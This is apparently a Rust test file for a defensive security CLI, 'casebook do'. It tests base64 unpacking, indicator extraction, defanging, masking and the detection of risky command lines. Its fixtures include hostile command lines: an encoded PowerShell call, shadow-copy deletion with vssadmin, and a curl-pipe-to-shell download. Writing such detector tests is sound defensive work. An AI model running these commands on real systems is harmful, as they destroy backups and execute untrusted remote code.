//! Rows made of rows: what they keep of where they come from, and the operations that make them, seen through `casebook do`.

use std::collections::BTreeMap;
use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::decode::rows;
use crate::driver::{run, run_in};

/// Does an operation on a JSONL of these rows; gives its rows and what it narrated.
fn done(arguments: &[&str], lines: &[serde_json::Value]) -> (Vec<BTreeMap<String, String>>, String) {
    let folder = tempfile::tempdir().unwrap();
    done_in(folder.path(), arguments, lines)
}

fn done_in(folder: &Path, arguments: &[&str], lines: &[serde_json::Value]) -> (Vec<BTreeMap<String, String>>, String) {
    let path = folder.join("input.jsonl");
    let text: Vec<String> = lines.iter().map(ToString::to_string).collect();
    std::fs::write(&path, text.join("\n")).unwrap();
    let path = path.display().to_string();
    let (code, out, error) = run_in(folder, &[&["do"], arguments, &[&path, "-o", "-", "--format", "csv"]].concat());
    assert_eq!(code, 0, "{error}");
    (rows(&out), error)
}

fn cells(texts: &[&str]) -> Vec<serde_json::Value> {
    (1..).zip(texts).map(|(n, text)| serde_json::json!({ "n": n, "text": text })).collect()
}

fn of<'a>(rows: &'a [BTreeMap<String, String>], column: &str) -> Vec<&'a str> {
    rows.iter().map(|row| row[column].as_str()).collect()
}

/// MSTICPy's join by value multiplies equal values (its fault 1), and loses the row (2); it joins nothing where only a
/// part of the cell is encoded (3).
#[test]
fn fault_2_and_3_results_are_joined_to_the_row_they_come_from() {
    let hidden = STANDARD.encode("ping evil.example.net -n 15");
    let line = format!("powershell -enc {hidden} # end");
    let lines = cells(&[&line, "nothing", &line]);
    let (joined, _) = done(&["unpack-base64", "--column", "text", "--join", "left"], &lines);
    assert_eq!(of(&joined, "n"), ["1", "2", "3"]);
    assert_eq!(of(&joined, "decoded_string"), ["ping evil.example.net -n 15", "", "ping evil.example.net -n 15"]);
    let (inner, _) = done(&["unpack-base64", "--column", "text", "--join", "inner"], &lines);
    assert_eq!(of(&inner, "n"), ["1", "3"]);
    assert_eq!(of(&inner, "src_index"), ["0", "2"]);
}

/// A null in the column makes MSTICPy fail (its faults 12 and 14).
#[test]
fn fault_12_and_14_one_bad_row_affects_one_row() {
    let good = STANDARD.encode("the good one, as it was written");
    let mut lines = cells(&[&good, "H4sIAAAAAAAA/wFQAa/+JGMyPUAoJ3N5bmMuY2xvdWQtbWV0cmljcy5leGFtcGxl", &good]);
    lines[1]["text"] = serde_json::Value::Null;
    lines.push(
        serde_json::json!({ "n": 4, "text": "H4sIAAAAAAAA/wFQAa/+JGMyPUAoJ3N5bmMuY2xvdWQtbWV0cmljcy5leGFtcGxl" }),
    );
    let (found, _) = done(&["unpack-base64", "--column", "text"], &lines);
    let good: Vec<_> = found.iter().filter(|row| row["decoded_string"].starts_with("the good one")).collect();
    assert_eq!(good.len(), 2, "{found:?}");
    let (iocs, _) = done(&["extract-iocs", "--column", "text"], &lines);
    assert!(iocs.is_empty());
    let (code, _, error) = run(&["do", "extract-iocs", "--column", "none", "lab.csv"]);
    assert!(code == 1 && error.contains("lab.csv"), "{error}");
}

#[test]
fn the_order_of_rows_does_not_matter_and_two_calls_agree() {
    let texts =
        ["see http://a.example.net/x and 10.0.0.1", "nothing", "d41d8cd98f00b204e9800998ecf8427e", "b@example.org"];
    let mut back = texts;
    back.reverse();
    let found = |texts: &[&str]| {
        let (found, _) = done(&["extract-iocs", "--column", "text"], &cells(texts));
        let mut pairs: Vec<(String, String)> =
            found.iter().map(|row| (row["IoCType"].clone(), row["Observable"].clone())).collect();
        pairs.sort();
        pairs
    };
    assert_eq!(found(&texts), found(&back));
    assert_eq!(found(&texts), found(&texts));
}

#[test]
fn several_columns_are_searched_at_once_and_counted_with_times() {
    let lines = [
        serde_json::json!({"TimeGenerated": "2026-03-04T02:00:00Z", "a": "from evil[.]example[.]net", "b": "x"}),
        serde_json::json!({"TimeGenerated": "2026-03-04T03:00:00Z", "a": "y", "b": "to evil.example.net now"}),
    ];
    let (found, _) = done(&["extract-iocs", "--column", "a,b", "--types", "dns"], &lines);
    assert_eq!(of(&found, "column"), ["a", "b"]);
    assert_eq!(of(&found, "Observable"), ["evil[.]example[.]net", "evil.example.net"]);
    assert_eq!(of(&found, "refanged"), ["evil.example.net", "evil.example.net"]);
    let (counted, _) = done(&["extract-iocs", "--column", "a,b", "--types", "dns", "--unique"], &lines);
    assert_eq!(of(&counted, "count"), ["2"]);
    assert_eq!(of(&counted, "first_seen"), ["2026-03-04T02:00:00Z"]);
    assert_eq!(of(&counted, "last_seen"), ["2026-03-04T03:00:00Z"]);
    assert_eq!(of(&counted, "rows"), ["0 1"]);
}

#[test]
fn lines_that_differ_first_and_repeat_later_are_counted_alike() {
    let line = |n: usize| format!("{n} from 198.51.100.7");
    let texts: Vec<String> = (0..1_200).map(|n| line(if n < 1_000 { n } else { 0 })).collect();
    let lines = cells(&texts.iter().map(String::as_str).collect::<Vec<_>>());
    let (found, _) = done(&["extract-iocs", "--column", "text"], &lines);
    let expected: Vec<String> = (0..1_200).map(|n| n.to_string()).collect();
    assert_eq!(of(&found, "SourceIndex"), expected);
    let (counted, _) = done(&["extract-iocs", "--column", "text", "--unique"], &lines);
    assert_eq!(of(&counted, "count"), ["1200"]);
}

#[test]
fn types_of_ones_own_come_from_the_configuration() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join(".config/casebook");
    std::fs::create_dir_all(&config).unwrap();
    let yaml =
        "ioc-types:\n  - {name: ticket, regex: 'INC-(?P<number>[0-9]+)', group: number}\n  - {name: bad, regex: '('}\n";
    std::fs::write(config.join("config.yaml"), yaml).unwrap();
    let lines = cells(&["see INC-4711 at 10.0.0.1"]);
    let (found, error) = done_in(home.path(), &["extract-iocs", "--column", "text"], &lines);
    assert!(error.contains("ioc-types: bad"), "{error}");
    assert_eq!(of(&found, "IoCType"), ["ticket", "ipv4"]);
    assert_eq!(of(&found, "Observable"), ["4711", "10.0.0.1"]);
    let (found, _) = done_in(home.path(), &["extract-iocs", "--column", "text", "--types", "ticket"], &lines);
    assert_eq!(of(&found, "Observable"), ["4711"]);
}

#[test]
fn defang_and_refang_undo_each_other() {
    let lines = cells(&["http://evil.example.net/a 10.0.0.1", "nobody@example.org", "plain text"]);
    let (safe, _) = done(&["defang", "--column", "text"], &lines);
    assert!(safe[0]["defanged"].starts_with("hxxp://evil[.]example[.]net/a 10[.]0[.]0[.]1"), "{safe:?}");
    let again: Vec<serde_json::Value> =
        safe.iter().map(|row| serde_json::json!({"n": 1, "text": row["defanged"]})).collect();
    let (live, _) = done(&["refang", "--column", "text"], &again);
    assert_eq!(of(&live, "refanged"), of(&safe, "text"));
}

#[test]
fn addresses_lie_in_ranges_and_sort_as_addresses() {
    let lines: Vec<serde_json::Value> = ["10.0.0.10", "9.9.9.9", "10.0.0.9", "2001:db8::1", "-"]
        .iter()
        .map(|ip| serde_json::json!({"IpAddress": ip, "n": 1}))
        .collect();
    let (found, _) = done(&["ip-in-range", "--column", "IpAddress", "--ranges", "10.0.0.0/8, 2001:db8::/32"], &lines);
    assert_eq!(of(&found, "network"), ["10.0.0.0/8", "", "10.0.0.0/8", "2001:db8::/32", ""]);
    assert_eq!(of(&found, "in_range"), ["true", "false", "true", "true", ""]);
    let (sorted, _) = done(&["sort", "--by", "IpAddress"], &lines);
    assert_eq!(of(&sorted, "IpAddress"), ["9.9.9.9", "10.0.0.9", "10.0.0.10", "2001:db8::1", "-"]);
    let (sorted, _) = done(&["sort", "--by", "-IpAddress"], &lines);
    assert_eq!(of(&sorted, "IpAddress"), ["2001:db8::1", "10.0.0.10", "10.0.0.9", "9.9.9.9", "-"]);
}

#[test]
fn names_and_urls_are_taken_apart() {
    let lines = cells(&["https://user:pw@www.evil.co.uk:8443/a/b.php?x=1&y=2#top", "xn--bcher-kva.example"]);
    let (parts, _) = done(&["url-parts", "--column", "text"], &lines);
    let first = &parts[0];
    assert_eq!(
        (first["scheme"].as_str(), first["host"].as_str(), first["port"].as_str(), first["file"].as_str()),
        ("https", "www.evil.co.uk", "8443", "b.php")
    );
    assert_eq!((first["has_password"].as_str(), first["n_params"].as_str()), ("true", "2"));
    let (parts, _) = done(&["domain-parts", "--column", "text"], &lines);
    assert_eq!((parts[0]["suffix"].as_str(), parts[0]["registered"].as_str()), ("co.uk", "evil.co.uk"));
    assert_eq!((parts[1]["unicode"].as_str(), parts[1]["is_idn"].as_str()), ("bücher.example", "true"));
    let (valid, _) = done(&["validate-tld", "--column", "text"], &cells(&["evil.com", "host.nosuchtld", "a.test"]));
    assert_eq!(of(&valid, "known_suffix"), ["true", "false", "true"]);
}

#[test]
fn maps_and_syslog_lines_become_columns() {
    let lines = cells(&["{\"a\": 1, \"b\": {\"c\": \"x\"}}", "{'a': None, 'text': 'y'}", "no map"]);
    let (parsed, error) = done(&["parse-json", "--column", "text", "--depth", "2"], &lines);
    assert_eq!(of(&parsed, "a"), ["1", "", ""]);
    assert_eq!(of(&parsed, "b.c"), ["x", "", ""]);
    assert_eq!(of(&parsed, "text_res"), ["", "y", ""]);
    assert!(error.contains("1 values are no map"), "{error}");
    let big = cells(&["{\"id\": 12345678901234567890123, \"v\": 1.10, \"in\": {\"n\": 18446744073709551616}}"]);
    let (exact, _) = done(&["parse-json", "--column", "text", "--depth", "2"], &big);
    let values = (exact[0]["id"].as_str(), exact[0]["v"].as_str(), exact[0]["in.n"].as_str());
    assert_eq!(values, ("12345678901234567890123", "1.10", "18446744073709551616"));
    let line = "<38>1 2026-03-04T02:11:09.133Z ndx-web-01 sshd 811 - - Accepted publickey for root";
    let (parsed, _) = done(&["parse-syslog", "--column", "text"], &cells(&[line]));
    assert_eq!(parsed[0]["syslog_process"], "sshd");
    assert_eq!(parsed[0]["syslog_severity"], "info");
    assert_eq!(parsed[0]["syslog_time"], "2026-03-04T02:11:09.133Z");
}

#[test]
fn risky_command_lines_are_told_with_their_reason() {
    let lines = cells(&[
        "vssadmin.exe delete shadows /all /quiet",
        "notepad.exe C:\\a.txt",
        "sh -c 'curl -fsSL http://mirror.example.org/i.sh | sh'",
    ]);
    let (found, _) = done(&["risky-cmdline", "--column", "text"], &lines);
    let rows: std::collections::BTreeSet<&str> = of(&found, "src_index").into_iter().collect();
    assert_eq!(rows, std::collections::BTreeSet::from(["0", "2"]), "{found:?}");
    assert!(found.iter().any(|row| row["technique"] == "T1490"), "{found:?}");
    assert!(found.iter().all(|row| row["technique"].starts_with('T') && row["reason"].len() > 10));
}

#[test]
fn masks_are_the_same_for_the_same_value_and_leave_nothing_behind() {
    let line = |ip: &str, account: &str| serde_json::json!({"IpAddress": ip, "Account": account, "n": 1});
    let lines = [line("10.20.4.17", "NORD\\fin-clerk-3"), line("8.8.8.8", "NORD\\it-admin-1"), line("10.20.4.17", "-")];
    let masked = |salt: &str| {
        let arguments = ["mask", "--column", "IpAddress,Account", "--salt", salt];
        done(&arguments, &lines).0
    };
    let one = masked("a secret");
    assert_eq!(one[0]["IpAddress"], one[2]["IpAddress"]);
    assert_ne!(one[0]["IpAddress"], "10.20.4.17");
    assert!(!format!("{one:?}").contains("fin-clerk-3"));
    assert_eq!(one, masked("a secret"));
    assert_ne!(one[0]["IpAddress"], masked("another secret")[0]["IpAddress"]);
    // What is masked in one column does not stand in the clear in another one.
    let told = "user=fin-clerk-3 tried; Account Name: FIN-CLERK-3";
    let lines = [serde_json::json!({"Account": "NORD\\fin-clerk-3", "text": told})];
    let (texts, _) = done(&["mask", "--column", "text,Account", "--salt", "x"], &lines);
    assert!(!texts[0]["text"].to_lowercase().contains("fin-clerk"), "{texts:?}");
    let name = texts[0]["Account"].rsplit('\\').next().unwrap();
    assert!(texts[0]["text"].contains(name), "{texts:?}");
    let (types, _) =
        done(&["ip-type", "--column", "IpAddress"], &[serde_json::json!({"IpAddress": one[0]["IpAddress"]})]);
    assert_eq!(types[0]["ip_type"], "Private");
}

#[test]
fn a_report_is_swept_through_a_table() {
    let folder = tempfile::tempdir().unwrap();
    let report = folder.path().join("report.txt");
    std::fs::write(&report, "C2 at 192[.]31[.]196[.]201 and hxxps://cdn-updates[.]example[.]net/p, not 198.51.100.7.")
        .unwrap();
    let lines = [
        serde_json::json!({"TimeGenerated": "2026-03-04T02:00:00Z", "line": "GET https://cdn-updates.example.net/p"}),
        serde_json::json!({"TimeGenerated": "2026-03-05T02:00:00Z", "line": "to 192.31.196.201:443"}),
        serde_json::json!({"TimeGenerated": "2026-03-06T02:00:00Z", "line": "192.31.196.201 again"}),
    ];
    let report = report.display().to_string();
    let (found, _) = done_in(folder.path(), &["sweep-iocs", "--report", &report], &lines);
    let row = |value: &str| found.iter().find(|row| row["Observable"] == value).unwrap_or_else(|| panic!("{found:?}"));
    assert_eq!(row("192.31.196.201")["count"], "2");
    assert_eq!(row("192.31.196.201")["first_seen"], "2026-03-05T02:00:00Z");
    assert_eq!(row("https://cdn-updates.example.net/p")["count"], "1");
    assert_eq!(row("cdn-updates.example.net")["column"], "line");
    assert_eq!(row("198.51.100.7")["count"], "0");
}
